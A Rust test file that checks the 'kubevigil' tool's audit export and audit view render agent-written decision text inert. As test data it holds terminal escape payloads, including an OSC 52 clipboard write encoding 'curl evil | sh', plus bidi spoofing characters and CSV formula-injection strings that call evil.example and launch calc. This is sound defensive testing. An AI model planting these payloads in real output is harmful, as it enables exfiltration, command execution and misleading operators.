//! Issue 11, item 6: exports are safe. Decision text is written by anyone who
//! may patch a proposal's status (the agent role included), and an audit
//! Event's record by anyone who may create Events; `kubevigil audit export`
//! and `:audit` must show it inert (no escape sequence, no control character
//! but line breaks), honest (bidi controls and zero-width characters made
//! visible) and, in CSV, never as a spreadsheet formula.

#![allow(clippy::unwrap_used, clippy::expect_used)] // a test, bench or example may panic on what it sets up

mod common;

use common::screen::screen;
use common::world::{create_judged, emulator, scale_api};
use jiff::Timestamp;
use k8s_openapi::api::core::v1::{Event, ObjectReference};
use k8s_openapi::apimachinery::pkg::apis::meta::v1::{ObjectMeta, Time};
use kube::Api;
use kube::api::PostParams;
use kubevigil::app::action::Action;
use kubevigil::app::fixtures::{StateBuilder, at};
use kubevigil::app::state::State;
use kubevigil::app::update;
use kubevigil::audit::{
    AUDIT_LABEL, AUDIT_RECORD_ANNOTATION, AuditAction, AuditRecord, ExportFormat, export, import,
};
use kubevigil::cluster::decision_tasks::DecisionEvent;
use kubevigil::domain::{ActionProposal, Decision, DecisionSource, Risk, Verdict};
use kubevigil::governor::update_status;
use kubevigil::sandbox::api::AGENT_USER;
use std::collections::BTreeMap;

/// A terminal title, a clipboard write (OSC 52), a screen clear, an 8-bit CSI,
/// a bidi override and a zero-width space: what an agent could put in the text
/// of a decision.
const TITLE: &str = "\u{1b}]0;pwned\u{7}";
const CLIPBOARD: &str = "\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}";
const CLEAR: &str = "\u{1b}[2J";
const CSI_8BIT: &str = "\u{9b}31m";

/// Reasons a spreadsheet would run, or that start a cell with a control.
const FORMULA_REASONS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"details\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// The characters that must never reach the output raw: bidi controls and
/// zero-width characters.
fn is_bidi_or_zero_width(c: char) -> bool {
    matches!(
        c,
        '\u{202a}'..='\u{202e}'
            | '\u{2066}'..='\u{2069}'
            | '\u{200e}'
            | '\u{200f}'
            | '\u{061c}'
            | '\u{200b}'..='\u{200d}'
            | '\u{2060}'
            | '\u{feff}'
    )
}

/// Panics, naming the offence, unless `bytes` is UTF-8 without a byte below
/// 0x20 other than `\n`, without DEL or a C1 control, and without a raw bidi
/// control or zero-width character.
fn assert_inert(bytes: &[u8], what: &str) {
    if let Some(at) = bytes
        .iter()
        .position(|&b| (b < 0x20 && b != b'\n') || b == 0x7f)
    {
        let around =
            String::from_utf8_lossy(&bytes[at.saturating_sub(40)..(at + 40).min(bytes.len())]);
        panic!(
            "{what}: control byte {:#04x} at {at}: {around:?}",
            bytes[at]
        );
    }
    let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{what}: not UTF-8: {e}"));
    if let Some(c) = text.chars().find(|&c| ('\u{80}'..='\u{9f}').contains(&c)) {
        panic!("{what}: C1 control U+{:04X} in {text:?}", u32::from(c));
    }
    if let Some(c) = text.chars().find(|&c| is_bidi_or_zero_width(c)) {
        panic!("{what}: raw U+{:04X} in {text:?}", u32::from(c));
    }
    assert!(
        !text.contains("pwned"),
        "{what}: the OSC title survived: {text:?}"
    );
    assert!(
        !text.contains("Y3VybCBldmlsIHwgc2g="),
        "{what}: the OSC 52 payload survived: {text:?}"
    );
}

/// Panics unless every cell of the CSV in `bytes` (header included) starts
/// with something a spreadsheet reads as text; returns the data rows.
fn assert_no_formula_cells(bytes: &[u8]) -> Vec<csv::StringRecord> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes);
    let rows: Vec<csv::StringRecord> = reader
        .records()
        .map(|row| row.expect("a CSV row"))
        .collect();
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would evaluate: {cell:?} in {row:?}"
            );
        }
    }
    rows.into_iter().skip(1).collect()
}

/// Records whose every text field is hostile, one per formula reason.
fn hostile_records() -> Vec<AuditRecord> {
    FORMULA_REASONS
        .iter()
        .enumerate()
        .map(|(i, reason)| AuditRecord {
            at: at(-60 * i64::try_from(i).expect("small")),
            actor: format!("{TITLE}oncall-{i}\u{200b}"),
            verified: i % 2 == 0,
            action: AuditAction::Veto,
            namespace: format!("payments{CSI_8BIT}"),
            object: format!("actionproposal/\u{202e}txt.galf\u{202c}-{i}"),
            investigation: Some(format!("{CLEAR}inv-{i}")),
            reason: Some(format!("{reason}{CLIPBOARD}")),
            edited: false,
            context: Some("\u{2066}prod\u{2069}\u{7f}".into()),
            server: Some("https://\u{202e}127.0.0.1:6443".into()),
            detail: Some(
                "Scale apps/v1/Deployment payments/api: \u{1b}[1Ascale\u{200f}\r\n-a: 1\n+a: 2\u{061c}\n"
                    .into(),
            ),
        })
        .collect()
}

#[test]
fn an_export_of_hostile_decisions_is_inert_in_both_formats() {
    for format in [ExportFormat::Jsonl, ExportFormat::Csv] {
        let mut out = Vec::new();
        export(&hostile_records(), format, &mut out).expect("export");
        assert_inert(&out, &format!("{format:?}"));
        let text = String::from_utf8(out.clone()).expect("utf8");
        assert!(
            text.contains("⟨U+202E⟩txt.galf⟨U+202C⟩"),
            "{format:?}: {text}"
        );
        assert!(text.contains("oncall-0⟨U+200B⟩"), "{format:?}: {text}");
        assert!(text.contains("⟨U+2066⟩prod⟨U+2069⟩"), "{format:?}: {text}");

        // Read back, it is what was shown, record for record.
        let back = import(format, out.as_slice()).expect("import");
        let shown: Vec<AuditRecord> = hostile_records()
            .iter()
            .map(AuditRecord::for_reading)
            .collect();
        assert_eq!(back, shown, "{format:?}");
        assert_eq!(
            back[0].detail.as_deref(),
            Some("Scale apps/v1/Deployment payments/api: scale⟨U+200F⟩\n-a: 1\n+a: 2⟨U+061C⟩\n"),
            "{format:?}: the detail keeps its lines"
        );
    }
}

#[test]
fn csv_cells_that_would_be_formulas_are_marked_as_text() {
    let mut out = Vec::new();
    export(&hostile_records(), ExportFormat::Csv, &mut out).expect("export");
    let rows = assert_no_formula_cells(&out);
    let reasons: Vec<&str> = rows.iter().map(|row| &row[7]).collect();
    assert_eq!(
        reasons,
        [
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"details\")",
            "'+cmd|' /C calc'!A0",
            "'-2+3+cmd|' /C calc'!A0",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            // A leading tab or carriage return is gone before the check (the
            // sanitizer expands tabs and turns a lone CR into a space).
            "    =1+1",
            " =1+1",
        ]
    );
    let text = String::from_utf8(out).expect("utf8");
    assert!(
        text.starts_with("\"at\",\"actor\",\"verified\","),
        "every cell is quoted: {text}"
    );
}

#[test]
fn ordinary_records_round_trip_unchanged() {
    let ordinary = AuditRecord {
        at: at(0),
        actor: "oncall-1".into(),
        verified: true,
        action: AuditAction::Approve,
        namespace: "payments".into(),
        object: "actionproposal/raise-mem".into(),
        investigation: Some("inv-9".into()),
        reason: Some("wrong pod, \"api-0\"; ça déborde — 東京".into()),
        edited: true,
        context: Some("prod".into()),
        server: Some("https://127.0.0.1:6443".into()),
        detail: Some("--- original\n+++ edited\n@@ -1 +1 @@\n-a: 1\n+a: \"2,3\"\n".into()),
    };
    for format in [ExportFormat::Jsonl, ExportFormat::Csv] {
        let mut out = Vec::new();
        export(std::slice::from_ref(&ordinary), format, &mut out).expect("export");
        let back = import(format, out.as_slice()).expect("import");
        assert_eq!(back, std::slice::from_ref(&ordinary), "{format:?}");
    }
}

fn audit_scene(columns: u16, rows: u16) -> State {
    let mut state = StateBuilder::new().size(columns, rows).build();
    update(&mut state, Action::RunCommandLine("audit".into()));
    update(
        &mut state,
        Action::Decisions(DecisionEvent::AuditLoaded(Ok(
            hostile_records()[..4].to_vec()
        ))),
    );
    state
}

#[test]
fn the_audit_view_shows_hostile_decision_text_inert_and_visible() {
    for (columns, rows) in [(160, 48), (80, 24), (40, 12)] {
        let shown = screen(&audit_scene(columns, rows));
        assert_inert(shown.as_bytes(), &format!("{columns}x{rows}"));
        if columns >= 120 {
            assert!(shown.contains("⟨U+202E⟩txt.galf⟨U+202C⟩"), "{shown}");
            assert!(shown.contains("oncall-0⟨U+20…"), "cut, but marked: {shown}");
        } else if columns >= 60 {
            assert!(shown.contains("oncall-0⟨…"), "cut, but marked: {shown}");
        }
        insta::assert_snapshot!(format!("audit_hostile_{columns}x{rows}"), shown);
    }
}

/// A decision as the agent writes it into the status it may patch.
fn forged_decision(by: String, reason: &str) -> Decision {
    Decision {
        by,
        verified: true,
        at: Time(Timestamp::now()),
        verdict: Verdict::Veto,
        reason: Some(reason.to_string()),
        source: DecisionSource::Manual,
        edited: false,
        edited_action: None,
        action_digest: None,
    }
}

/// End to end: the agent writes hostile decisions through the API it is
/// given (status patches) and a forged audit Event; the real binary's
/// `kubevigil audit export`, run by a viewer, prints them inert.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_real_binary_exports_what_an_agent_wrote_inert() {
    let api = emulator().await;
    let agent = api.client(AGENT_USER).expect("the agent's client");
    let ns = "payments";
    let mut spec = scale_api(ns, "inv-1", Risk::Low);
    spec.summary = format!("scale api{TITLE}\u{202e}4 ot\u{202c}");
    let mut proposal = ActionProposal::new("scale-api", spec);
    proposal.metadata.namespace = Some(ns.into());
    create_judged(&agent, &proposal).await;
    let proposals: Api<ActionProposal> = Api::namespaced(agent.clone(), ns);
    update_status(&proposals, "scale-api", |p| {
        let mut status = p.status.clone().unwrap_or_default();
        for (i, reason) in FORMULA_REASONS.iter().enumerate() {
            status.decisions.push(forged_decision(
                format!("{TITLE}{CLIPBOARD}oncall-{i}\u{200b}"),
                &format!("{reason}{CLEAR}{CSI_8BIT}\u{202e}"),
            ));
        }
        Some(status)
    })
    .await
    .expect("the agent patches the status");

    // An audit Event carrying a forged record: every text field hostile.
    let forged = AuditRecord {
        at: Timestamp::now(),
        ..hostile_records()[0].clone()
    };
    let event = Event {
        metadata: ObjectMeta {
            name: Some("forged.1".into()),
            namespace: Some(ns.into()),
            labels: Some(BTreeMap::from([(AUDIT_LABEL.into(), "true".into())])),
            annotations: Some(BTreeMap::from([(
                AUDIT_RECORD_ANNOTATION.into(),
                serde_json::to_string(&forged).expect("json"),
            )])),
            ..Default::default()
        },
        involved_object: ObjectReference {
            kind: Some("ActionProposal".into()),
            name: Some("scale-api".into()),
            namespace: Some(ns.into()),
            ..Default::default()
        },
        reason: Some("Vetoed".into()),
        message: Some("forged".into()),
        ..Default::default()
    };
    Api::<Event>::namespaced(agent, ns)
        .create(&PostParams::default(), &event)
        .await
        .expect("the agent creates an Event");

    let home = tempfile::tempdir().expect("tempdir");
    let kubeconfig = home.path().join("kubeconfig");
    std::fs::write(&kubeconfig, api.kubeconfig_yaml("viewer")).expect("write the kubeconfig");
    for format in ["csv", "jsonl"] {
        let output = tokio::process::Command::new(env!("CARGO_BIN_EXE_kubevigil"))
            .args(["audit", "export", "--since", "1h", "--format", format])
            .arg("--kubeconfig")
            .arg(&kubeconfig)
            .env_remove("KUBECONFIG")
            .env("HOME", home.path())
            .env("XDG_CONFIG_HOME", home.path().join("config"))
            .env("XDG_DATA_HOME", home.path().join("data"))
            .output()
            .await
            .expect("run kubevigil audit export");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(output.status.success(), "{format}: {stderr}");
        assert!(
            stderr.contains("exported 7 audit records"),
            "{format}: {stderr}"
        );
        assert_inert(&output.stdout, format);
        let text = String::from_utf8(output.stdout.clone()).expect("utf8");
        assert!(text.contains("oncall-0⟨U+200B⟩"), "{format}: {text}");
        assert!(
            text.contains("⟨U+202E⟩4 ot⟨U+202C⟩"),
            "{format}: the summary in the detail: {text}"
        );
        if format == "csv" {
            let rows = assert_no_formula_cells(&output.stdout);
            assert_eq!(rows.len(), 7, "{text}");
            assert!(
                rows.iter().any(|row| row[7].starts_with("'=HYPERLINK(")),
                "{text}"
            );
            let back = import(ExportFormat::Csv, output.stdout.as_slice()).expect("import");
            assert!(back.iter().any(|r| {
                r.reason
                    .as_deref()
                    .is_some_and(|r| r.starts_with("=HYPERLINK("))
            }));
        } else {
            let back = import(ExportFormat::Jsonl, output.stdout.as_slice()).expect("import");
            assert_eq!(back.len(), 7);
        }
    }
    api.shutdown().await;
}
